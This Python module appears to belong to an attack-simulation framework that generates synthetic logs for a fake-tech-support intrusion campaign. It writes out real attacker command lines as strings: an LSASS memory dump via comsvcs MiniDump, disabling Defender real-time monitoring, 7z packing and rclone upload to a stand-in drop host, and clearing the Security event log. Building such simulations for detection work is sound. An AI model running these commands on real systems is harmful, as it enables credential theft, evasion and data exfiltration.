"""A false supporter on the telephone: remote control of a desk in the branch, a service account, the files of the company."""

from __future__ import annotations

from bartizan.simulate.company.network import Flow, address_of
from bartizan.simulate.company.programs import Program, library
from bartizan.simulate.contract import Attack, Deed
from bartizan.simulate.estate.campaign import Campaign
from bartizan.simulate.estate.resident import at_logon, calls_home

__all__ = ["CAMPAIGN"]

_DESK, _USER, _SERVICE = "sales-05", "CORP\\sales05", "CORP\\svc-sql"
_RELAY, _DROP = "relay-eu7.remotehelp.example.net", "203.0.113.201"
_IMAGE = "C:\\ProgramData\\RemoteHelp\\rhclient.exe"
_TOOLS = "C:\\Users\\Public\\Documents\\rc"


def _deed(name: str, what: str, tactic: str, *techniques: str, host: str = _DESK, quiet: bool = False) -> Deed:
    principal = _USER if host == _DESK else _SERVICE
    return Deed(id=f"support-{name}", what=what, techniques=techniques, tactic=tactic, host=host, principal=principal, quiet=quiet)


_FETCH = _deed("fetch", "A user is talked into fetching a program for remote control.", "initial-access", "T1566.004", "T1219", quiet=True)
_CONTROL = _deed("control", "The program lets a stranger control the desk.", "command-and-control", "T1219", quiet=True)
_SERVICE_MADE = _deed("service", "The program is installed as a service.", "persistence", "T1543.003")
_LOOK = _deed("look", "The domain, its administrators and its servers are looked up.", "discovery", "T1087.002", "T1482", "T1018")
_ROAST = _deed("roast", "Tickets of a service account are asked for with a weak cipher.", "credential-access", "T1558.003")
_DUMP = _deed("dump", "The memory of the security authority is written to a file.", "credential-access", "T1003.001")
_DESKTOP = _deed(
    "desktop", "The service account opens a desktop on the application server.", "lateral-movement", "T1021.001", host="app-01"
)
_SHADOW = _deed("disable", "The virus scanner's watch is switched off.", "defense-evasion", "T1562.001", host="app-01")
_GATHER = _deed("gather", "Shares of finance and personnel are read in bulk.", "collection", "T1039", host="files-01", quiet=True)
_PACK = _deed("pack", "The files are packed with a password.", "collection", "T1560.001", host="app-01")
_SEND = _deed("send", "The archive is sent to a host outside.", "exfiltration", "T1048.002", "T1567.002", host="app-01")
_CLEAN = _deed("clean", "The security log is cleared.", "defense-evasion", "T1070.001", host="app-01")


def _taken_over(attack: Attack) -> None:
    company = attack.company
    desk = company.desks[_DESK]
    host, start = desk.host, company.clock.at("10:22:40", zone=desk.host.zone)
    with attack.doing(start, _FETCH):
        browser = host.start(start, "edge", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"', desk.shell)
        company.reach(start + 9, browser, host, ("remotehelp.example.net", 443), Flow("", 0, "", 0, "-", 8.0, 3100, 9_800_000))
        host.write(start + 17, browser, "C:\\Users\\sales05\\Downloads\\RemoteHelp.Setup.exe")
    with attack.doing(start + 60, _CONTROL):
        setup = host.start(start + 60, Program("C:\\Users\\sales05\\Downloads\\RemoteHelp.Setup.exe"), "", desk.shell)
        host.write(start + 63, setup, _IMAGE)
        client = host.start(start + 66, Program(_IMAGE), f'"{_IMAGE}" --session 7719402', setup)
    with attack.doing(start + 75, _SERVICE_MADE):
        host.run(start + 75, "sc", f'sc create RemoteHelp binPath= "{_IMAGE} --service" start= auto', client)
        host.audit(start + 75.6, "system/7045", ("RemoteHelp", f"{_IMAGE} --service", "user mode service", "auto start", "LocalSystem"))
    calls_home(attack, _CONTROL, (desk, client, _RELAY), first=start + 70, every=240)


def _credentials(attack: Attack) -> None:
    company = attack.company
    desk = company.desks[_DESK]
    client = at_logon(attack, _CONTROL, desk, _IMAGE)
    calls_home(attack, _CONTROL, (desk, client, _RELAY), first=desk.since + 40, every=900)
    host, start = desk.host, company.clock.at("11:05:30", zone=desk.host.zone)
    shell = host.start(start, "cmd", '"C:\\Windows\\System32\\cmd.exe"', client)
    with attack.doing(start + 5, _LOOK):
        for turn, (image, command) in enumerate(
            (
                ("net", 'net group "Domain Admins" /domain'),
                ("nltest", "nltest /domain_trusts /all_trusts"),
                ("net", "net view /domain"),
                ("quser", "quser /server:app-01"),
            )
        ):
            host.run(start + 5 + turn * 16, image, command, shell, 2)
    with attack.doing(start + 140, _ROAST):
        for turn, service in enumerate(("svc-sql", "svc-web", "svc-scan")):
            company.ticket(start + 140 + turn * 0.3, desk.user, host, service, "0x17")
    with attack.doing(start + 900, _DUMP):
        path = "C:\\Users\\Public\\Documents\\rc\\m.bin"
        command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {host.lsass.pid} {path} full"
        dumper = host.start(start + 900, "rundll32", command, shell)
        for delay, name in ((0.1, "comsvcs.dll"), (0.2, "dbghelp.dll"), (0.3, "dbgcore.dll")):
            host.load(start + 900 + delay, dumper, library(name))
        host.access(start + 900.5, dumper, host.lsass, "0x1fffff", "C:\\Windows\\System32\\dbgcore.dll+6cce")
        host.write(start + 900.6, dumper, path)
        host.stop(start + 903, dumper)


def _on_the_server(attack: Attack) -> None:
    company = attack.company
    desk = company.desks[_DESK]
    host, server, files = desk.host, company.windows["app-01"], company.windows["files-01"]
    account = company.users["svc-sql"]
    client = at_logon(attack, _CONTROL, desk, _IMAGE)
    calls_home(attack, _CONTROL, (desk, client, _RELAY), first=desk.since + 40, every=900)
    start = company.clock.at("15:40:12", zone=host.zone)
    with attack.doing(start, _DESKTOP):
        host.run(start - 3, "mstsc", "mstsc.exe /v:app-01", client, 5400)
        opened = company.log_on_to(start, account, host, server, kind=10)
        explorer = server.start(start + 6, "explorer", "C:\\Windows\\Explorer.EXE", server.running("userinit"), opened)
        shell = server.start(start + 60, "powershell", "powershell.exe -NoLogo", explorer)
    with attack.doing(start + 80, _SHADOW):
        server.script(start + 80, shell, "Set-MpPreference -DisableRealtimeMonitoring $true")
        server.set_value(
            start + 80.5,
            server.running("msmpeng"),
            "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
            "DWORD (0x00000001)",
        )
    with attack.doing(start + 300, _GATHER):
        session = company.log_on_to(start + 300, account, server, files)
        for turn in range(220):
            folder = ("Finance", "HR")[turn % 2]
            port = company.network.port()
            files.share(
                start + 301 + turn * 1.7, session, (server.ip, port), folder, f"archive\\{2019 + turn % 7}\\statement-{turn:03d}.xlsx"
            )
        files.log_off(start + 690, session)


def _sent(attack: Attack) -> None:
    company = attack.company
    desk = company.desks[_DESK]
    host, server = desk.host, company.windows["app-01"]
    client = at_logon(attack, _CONTROL, desk, _IMAGE)
    calls_home(attack, _CONTROL, (desk, client, _RELAY), first=desk.since + 40, every=900)
    start = company.clock.at("16:55:30", zone=host.zone)
    with attack.doing(start, _DESKTOP):
        host.run(start - 3, "mstsc", "mstsc.exe /v:app-01", client, 3600)
        opened = company.log_on_to(start, company.users["svc-sql"], host, server, kind=10)
        explorer = server.start(start + 6, "explorer", "C:\\Windows\\Explorer.EXE", server.running("userinit"), opened)
        shell = server.start(start + 40, "cmd", '"C:\\Windows\\System32\\cmd.exe"', explorer)
    with attack.doing(start + 60, _PACK):
        packer = server.run(start + 60, "7z", f"7z.exe a -p -mhe=on -v500m {_TOOLS}\\u.7z D:\\stage\\*", shell, 240)
        for part in range(1, 4):
            server.write(start + 80 + part * 50, packer, f"{_TOOLS}\\u.7z.{part:03d}")
    with attack.doing(start + 330, _SEND):
        image = f"{_TOOLS}\\rclone.exe"
        sender = server.start(start + 330, Program(image), f"{image} copy {_TOOLS} drop:in --transfers 8 --no-check-certificate", shell)
        for part in range(3):
            flow = Flow("", 0, "", 0, "-", 180.0, 498_000_000, 410_000)
            company.dial(start + 334 + part * 200, sender, server, (address_of("drop"), _DROP, 443), flow)
        server.stop(start + 960, sender)
    with attack.doing(start + 1000, _CLEAN):
        server.run(start + 1000, "wevtutil", "wevtutil cl Security", shell, 1)
        account = opened.user
        server.audit(start + 1001, "security/1102", (account.sid, account.name, account.domain, opened.logon_id))
        server.log_off(start + 1100, opened)


CAMPAIGN = Campaign(
    name="support",
    title="A false supporter controls a desk in the branch, takes a service account and the company's files.",
    days={1: [_taken_over], 2: [_credentials], 3: [_on_the_server], 4: [_sent]},
)
